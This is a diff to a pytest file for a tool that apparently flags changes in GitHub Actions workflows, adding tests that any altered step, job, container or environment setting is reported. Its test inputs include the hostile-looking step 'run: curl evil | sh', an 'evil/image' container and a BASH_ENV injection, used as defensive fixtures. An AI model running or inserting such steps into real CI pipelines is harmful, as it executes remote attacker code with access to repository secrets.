@@ -61,7 +61,7 @@ def test_what_is_given_is_told(old: str, new: str, told: tuple[str, str, str, st
     assert old in BEFORE
     found = _told(BEFORE, BEFORE.replace(old, new, 1))
     assert told in found
-    assert len(found) <= 2
+    assert len([one for one in found if not one[1].startswith("steps or jobs")]) <= 2
 
 
 def test_a_job_without_permissions_has_those_of_the_workflow_or_whatever_the_repository_gives() -> None:
@@ -72,7 +72,30 @@ def test_a_job_without_permissions_has_those_of_the_workflow_or_whatever_the_rep
 
 
 def test_comments_and_order_are_no_change() -> None:
-    assert _told(BEFORE, "# hello\n" + BEFORE.replace("run: echo", "run: ls")) == []
+    moved = BEFORE.replace("permissions: {}\n", "").replace("on:\n", "permissions: {}\non:\n")
+    assert _told(BEFORE, "# hello\n" + moved) == []
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "job"),
+    [
+        ("run: echo", "run: curl evil | sh", "one"),
+        ("run: echo", "run: echo\n        env: {A: b}", "one"),
+        ("    steps", "    if: always()\n    steps", "one"),
+        ("    steps", "    runs-on: mine\n    steps", "one"),
+        ("    steps", "    container: evil/image\n    steps", "one"),
+        ("    uses: ./", "    needs: []\n    uses: ./", "two"),
+        ("permissions: {}", "permissions: {}\nenv: {BASH_ENV: x}", "the whole file"),
+        ("  two:", "  three: {runs-on: x}\n  two:", "three"),
+    ],
+)
+def test_any_other_change_of_a_job_is_told(old: str, new: str, job: str) -> None:
+    told = ("changed", f"steps or jobs ({job})", "", "other than before")
+    assert _told(BEFORE, BEFORE.replace(old, new, 1)) == [told]
+
+
+def test_a_pin_that_a_fact_tells_is_told_once() -> None:
+    assert len(_told(BEFORE, BEFORE.replace("checkout@aaa", "checkout@bbb"))) == 1
 
 
 def test_a_workflow_that_cannot_be_read_is_a_change() -> None:
